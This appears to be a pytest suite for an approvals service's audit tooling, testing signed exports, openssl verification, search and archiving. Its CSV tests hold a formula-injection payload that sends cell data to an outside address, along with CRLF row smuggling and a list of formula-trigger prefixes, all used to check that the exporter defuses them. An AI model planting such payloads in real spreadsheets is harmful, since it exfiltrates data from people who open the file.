"""What an auditor gets: exact, signed, checked without Sekisho, inert in a spreadsheet."""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
from datetime import timedelta
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from redis.asyncio import Redis

from approvals import entry as entries_of
from approvals.audit.archive import ArchiveReport, NothingToArchive, archive
from approvals.audit.export import Exported, Format, export, guarded
from approvals.audit.search import Query, search
from approvals.audit.signing import SigningKeyError, create_key, load_key, parse_key
from approvals.audit.verify import verify, verify_file
from approvals.entry import Archived, AuditBroken
from approvals.events import OpId, PersonId, Target
from approvals.ledger import Consumer, Ledger
from approvals.proof import prove
from tests.approvals.forging import AUDIT, rewrite, rows_of
from tests.approvals.samples import (
    ALICE,
    ITO,
    SATO,
    WEB_01,
    approved,
    file,
    run_to_applying,
    run_to_ended,
    step,
)
from tests.conftest import missing
from tests.redis_fixtures import KEYS


async def exported(ledger: Ledger, folder: Path, form: Format, query: Query) -> Exported:
    return await export(
        ledger.store,
        KEYS,
        folder,
        "audit",
        form=form,
        query=query,
        signing_key=create_key(folder / "key.pem"),
    )


@pytest.mark.proves("J6", "C095")
async def test_json_lines_are_what_was_signed_byte_for_byte(ledger: Ledger, tmp_path: Path) -> None:
    await file(ledger, justification='=1+1,"\r\n2026,approved', target=_named("@SUM(1)"))
    result = await exported(ledger, tmp_path, Format.JSONL, Query())
    [line] = result.file.read_bytes().splitlines(keepends=True)
    [row] = await rows_of(ledger)
    assert row.canonical in line
    assert entries_of.from_line(line) == row
    assert verify_file(result.file, KEYS).is_good


def _named(name: str) -> Target:
    return msgspec.structs.replace(WEB_01, name=name, tags={"env": "@SUM(1)"})


@pytest.mark.proves("C095")
async def test_csv_has_one_row_per_entry_and_no_formula(ledger: Ledger, tmp_path: Path) -> None:
    nasty = '=HYPERLINK("http://198.51.100.7/?"&A1)\r\n"2026-11-25","approved"'
    request = await file(ledger, justification=nasty, target=_named("@SUM(1)"))
    await step(ledger, approved(request, SATO, await ledger.now()), "yes")
    result = await exported(ledger, tmp_path, Format.CSV, Query())
    text = result.file.read_bytes().decode("utf-8-sig")
    assert text.count("\r\n") == 3
    header, *rows = csv.reader(text.splitlines())
    shown = [dict(zip(header, row, strict=True)) for row in rows]
    assert [row["sequence"] for row in shown] == ["1", "2"]
    assert [row["event"] for row in shown] == ["submitted", "approved"]
    assert {row["vm"] for row in shown} == {"'@SUM(1)"}
    assert shown[0]["source"] == "203.0.113.7"
    assert not any(cell[:1] in "=+-@\t＝" for row in rows for cell in row if cell)


@pytest.mark.proves("C095")
@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "＝1", "＠a", ' "=1', "'=1", "a,=1", "a\n=1"],
)
def test_formula_stays_text(cell: str) -> None:
    assert guarded(cell).startswith("'")


@pytest.mark.proves("C095")
@pytest.mark.parametrize(
    "cell", ["203.0.113.7", "2001:db8::7", "22 443", "web-01", "a = b", "テスト", ""]
)
def test_ordinary_cell_is_not_touched(cell: str) -> None:
    assert guarded(cell) == cell


@given(st.text())
def test_cell_is_one_line_and_never_a_formula(text: str) -> None:
    cell = guarded(text)
    assert len(cell.splitlines()) <= 1 or "\x1c" in cell or "\x1d" in cell or "\x1e" in cell
    assert not cell.startswith(("=", "+", "-", "@", "\t", "＝", "＋", "－", "＠"))


@pytest.mark.proves("J6")
async def test_openssl_and_sha256sum_check_the_export(ledger: Ledger, tmp_path: Path) -> None:
    openssl, sha256sum = shutil.which("openssl"), shutil.which("sha256sum")
    if openssl is None or sha256sum is None:
        missing("no openssl or sha256sum: install them (Debian: apt-get install openssl coreutils)")
    await run_to_ended(ledger, await file(ledger))
    result = await exported(ledger, tmp_path, Format.JSONL, Query())
    (tmp_path / "sekisho-audit.pem").write_text(load_key(tmp_path / "key.pem").public_pem)
    check_signature = [
        openssl, "pkeyutl", "-verify", "-pubin", "-inkey", "sekisho-audit.pem", "-rawin",
        "-in", result.digest_file.name, "-sigfile", result.signature_file.name,
    ]  # fmt: skip
    check_file = [sha256sum, "--check", result.digest_file.name]
    for command in (check_signature, check_file):
        done = _run(command, tmp_path)
        assert done.returncode == 0, done.stdout + done.stderr
    assert "openssl pkeyutl -verify" in result.readme.read_text()

    result.digest_file.write_bytes(result.digest_file.read_bytes() + b"# one more\n")
    assert _run(check_signature, tmp_path).returncode != 0


def _run(command: list[str], folder: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False)


async def test_nothing_is_signed_over_a_broken_log(
    ledger: Ledger, redis: Redis, tmp_path: Path
) -> None:
    await file(ledger)
    await file(ledger, "two", ports=(23,))
    rows = await rows_of(ledger)
    await rewrite(redis, [rows[0], rows[0]], numbers=[1, 2])
    with pytest.raises(AuditBroken):
        await exported(ledger, tmp_path, Format.JSONL, Query())
    assert not any(name.endswith(".sig") for name in os.listdir(tmp_path))


def test_key_file_is_made_once_for_its_owner_alone(tmp_path: Path) -> None:
    key = create_key(tmp_path / "key.pem")
    assert (tmp_path / "key.pem").stat().st_mode & 0o777 == 0o600
    assert load_key(tmp_path / "key.pem").public_pem == key.public_pem
    assert "PRIVATE" not in repr(key) + key.public_pem
    with pytest.raises(FileExistsError):
        create_key(tmp_path / "key.pem")
    with pytest.raises(SigningKeyError, match="no private key"):
        parse_key(b"hello")


# --- search --------------------------------------------------------------------------------------


@pytest.mark.proves("J5")
async def test_search_by_each_criterion(ledger: Ledger) -> None:
    one = await run_to_ended(ledger, await file(ledger, "one"))
    two = await file(ledger, "two", target=_named("db-01"), ports=(5432,))

    async def found(query: Query) -> list[int]:
        return [e.sequence for e in (await search(ledger.store, KEYS, query)).entries]

    assert await found(Query(vm="DB-01")) == [7]
    assert await found(Query(vm=one.target.resource_id.upper())) == [7, 6, 5, 4, 3, 2, 1]
    assert await found(Query(request=two.id)) == [7]
    assert await found(Query(person=SATO)) == [2]
    assert await found(Query(person=ALICE, kind="approved")) == [2]
    assert await found(Query(person=PersonId("U0NOBODY"))) == []
    now = await ledger.now()
    assert await found(Query(until=now - timedelta(hours=1))) == []
    assert len(await found(Query(since=now - timedelta(hours=1)))) == 7


@pytest.mark.proves("J5")
async def test_search_goes_page_by_page(ledger: Ledger) -> None:
    for n in range(7):
        await file(ledger, f"op{n}", ports=(1000 + n,))
    before, seen = None, []
    while True:
        page = await search(ledger.store, KEYS, Query(), before=before, n=3)
        assert page.total == 7
        seen += [entry.sequence for entry in page.entries]
        if page.next_before is None:
            break
        before = page.next_before
    assert seen == [7, 6, 5, 4, 3, 2, 1]


# --- archive -------------------------------------------------------------------------------------


async def archived(ledger: Ledger, folder: Path, op: str = "archive") -> ArchiveReport:
    key = folder / "key.pem"
    signing_key = load_key(key) if key.exists() else create_key(key)
    return await archive(ledger, folder, signing_key=signing_key, actor=ITO, op_id=OpId(op))


@pytest.mark.proves("J6", "C069")
async def test_archive_trims_what_nobody_needs(ledger: Ledger, tmp_path: Path) -> None:
    await run_to_ended(ledger, await file(ledger, "old"))
    living = await file(ledger, "living", ports=(23,))
    report = await archived(ledger, tmp_path)
    assert (report.through, report.trimmed) == (6, 6)
    assert verify_file(report.exported.file, KEYS).good_to == 6
    left = await verify(ledger.store, KEYS)
    assert (left.is_good, left.first, left.head) == (True, 7, 8)
    entry = await ledger.entry(8)
    assert entry is not None
    assert isinstance(entry.event, Archived)
    trying = await run_to_applying(ledger, living)
    await prove(ledger, living.id, trying.entry)


@pytest.mark.proves("C069")
async def test_archive_waits_for_the_slowest_reader(ledger: Ledger, tmp_path: Path) -> None:
    await run_to_ended(ledger, await file(ledger, "old"))
    await file(ledger, "living", ports=(23,))
    consumer = Consumer(ledger, "apply", "one", block=timedelta(milliseconds=100))
    async for entry in consumer.entries():
        if entry.sequence == 5:
            break
        if entry.sequence != 3:
            await consumer.done(entry)
    await consumer.close()
    assert (await archived(ledger, tmp_path)).through == 2


async def test_nothing_to_archive_while_all_is_needed(ledger: Ledger, tmp_path: Path) -> None:
    await file(ledger)
    with pytest.raises(NothingToArchive):
        await archived(ledger, tmp_path)


async def test_trimmed_without_an_archive_is_found(ledger: Ledger, redis: Redis) -> None:
    await run_to_ended(ledger, await file(ledger))
    await redis.xtrim(AUDIT, minid="4-0", approximate=False)
    report = await verify(ledger.store, KEYS)
    assert report.first_bad == 1
    assert "not archived" in report.reason
